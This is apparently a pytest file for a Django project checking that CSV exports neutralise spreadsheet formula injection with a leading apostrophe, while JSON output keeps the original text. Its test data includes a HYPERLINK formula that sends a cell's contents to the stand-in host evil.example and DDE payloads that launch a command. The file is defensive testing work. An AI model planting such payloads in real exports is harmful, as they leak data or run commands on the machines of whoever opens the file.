"""CSV cells a spreadsheet would run as a formula are neutralised (OWASP: a leading
apostrophe), in the API's CSV and in the downloads; the JSON keeps the exact text."""

import csv
import io
import json

import pytest

from core.rest import spreadsheet_safe
from downloads.exports import JSON_NAME, export
from initiatives.models import Initiative

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+CMD|' /C calc'!A0", "'+CMD|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("2026-2029", "2026-2029"),
        ("Digital inclusion = access", "Digital inclusion = access"),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_only_when_it_would_be_a_formula(cell, written):
    assert spreadsheet_safe(cell) == written


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.fixture
def formula_title():
    initiative = Initiative.objects.get(slug="2026-2029-ams4")
    initiative.title = FORMULA
    initiative.save()
    return initiative


def test_the_api_csv_neutralises_and_the_json_keeps_the_text(client, formula_title):
    response = client.get("/api/v1/initiatives/?region=AMS&format=csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    ams4 = next(row for row in rows_of(text) if row["slug"] == "2026-2029-ams4")
    assert ams4["title"] == "'" + FORMULA
    assert client.get("/api/v1/initiatives/2026-2029-ams4/").json()["title"] == FORMULA


def test_the_downloads_neutralise_and_their_json_keeps_the_text(tmp_path, formula_title):
    export(tmp_path)
    ams4 = next(
        row
        for row in rows_of((tmp_path / "initiatives.csv").read_text(encoding="utf-8"))
        if row["slug"] == "2026-2029-ams4"
    )
    assert ams4["title"] == "'" + FORMULA
    document = json.loads((tmp_path / JSON_NAME).read_text(encoding="utf-8"))
    assert (
        next(i for i in document["initiatives"] if i["slug"] == "2026-2029-ams4")["title"]
        == FORMULA
    )


def test_no_cell_of_the_curated_data_needs_it(tmp_path):
    # The sources' texts reach the CSV files unchanged: none starts like a formula.
    export(tmp_path)
    for path in tmp_path.glob("*.csv"):
        for row in rows_of(path.read_text(encoding="utf-8")):
            assert not [cell for cell in row.values() if cell.startswith("'")], path.name
